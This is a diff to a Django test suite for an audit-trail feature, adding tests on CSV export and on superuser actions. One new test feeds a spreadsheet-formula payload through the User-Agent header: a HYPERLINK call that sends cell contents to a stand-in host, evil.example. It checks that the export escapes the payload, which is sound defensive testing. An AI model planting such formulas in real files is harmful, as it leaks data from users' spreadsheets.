@@ -9,6 +9,8 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from agencies.models import Role
+from agencies.services import user_deactivate
+from agencies.views import AUDIT_EXPORT_COLUMNS
 from portal import pagination
 from portal.audit import audit_record
 from portal.models import AuditEvent
@@ -140,4 +142,24 @@ def test_the_export_is_a_csv_of_the_filtered_events_and_is_itself_audited(client
     export = AuditEvent.objects.get(action="portal.audit.exported")
     assert export.actor == auditor
     assert export.details["rows"] == 1
-    assert export.details["filters"] == {"actor": "investigator@"}
+    assert export.details["filters"] == {"actor": "(given)"}  # no address inside an audit event
+
+
+def test_the_export_cannot_carry_a_spreadsheet_formula(client, client_as, lead_auditor, investigator):
+    client.post(
+        reverse("account_login"),
+        {"login": investigator.email, "password": "wrong-wrong-wrong", "acknowledge": "on"},
+        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A2,"click")',
+    )
+    response = client_as(lead_auditor).get(reverse("audit_trail_export"), {"action": "auth.login.failed"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    user_agent = rows[1][AUDIT_EXPORT_COLUMNS.index("user_agent")]
+    assert user_agent == "'" + '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+def test_a_superusers_action_on_an_agencys_person_reaches_that_agencys_auditor(
+    client_as, superuser, lead_auditor, colleague
+):
+    user_deactivate(user=colleague, actor=superuser)
+    events = client_as(lead_auditor).get(reverse("audit_trail")).context["page"].object_list
+    assert "agencies.user.deactivated" in [event.action for event in events]
